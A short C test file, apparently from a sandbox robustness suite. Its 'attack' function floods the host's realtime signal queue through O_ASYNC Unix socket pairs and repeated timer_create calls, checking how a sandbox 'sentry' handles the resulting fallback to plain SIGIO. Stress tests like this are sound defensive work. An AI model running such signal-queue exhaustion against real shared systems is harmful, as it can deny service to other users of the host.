// More readiness signals (O_ASYNC) than the host queues for the sentry: the host then sends plain SIGIO instead.
// Seconds: 2
#include "hostile.h"

static void *sender(void *argument) {
    int *pair = argument;
    char bytes[4096] = "";
    while (left() > -0.1) {
        for (int i = 0; i < 150; i++) RAW(SYS_sendto, pair[0], bytes, 1, MSG_DONTWAIT | MSG_NOSIGNAL);
        RAW(SYS_recvfrom, pair[1], bytes, sizeof bytes, MSG_DONTWAIT);
        tally->rounds += 150;
    }
    return NULL;
}

static void attack(void) {
    signal(SIGIO, SIG_IGN);
    // As many signals as the host user may have queued, where the sentry has the same user.
    struct sigevent none = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGURG};
    int pairs[4][2];
    for (int i = 0; i < 4; i++) {
        socketpair(AF_UNIX, SOCK_STREAM, 0, pairs[i]);
        for (int end = 0; end < 2; end++) {
            fcntl(pairs[i][end], F_SETOWN, getpid());
            fcntl(pairs[i][end], F_SETFL, O_ASYNC | O_NONBLOCK);
            fcntl(pairs[i][end], F_SETSIG, 35);
        }
        thread_start(sender, pairs[i]);
    }
    signal(35, SIG_IGN);
    timer_t timer;
    while (left() > 0) {
        for (int i = 0; i < 100; i++) timer_create(CLOCK_MONOTONIC, &none, &timer);
        getppid();
    }
}
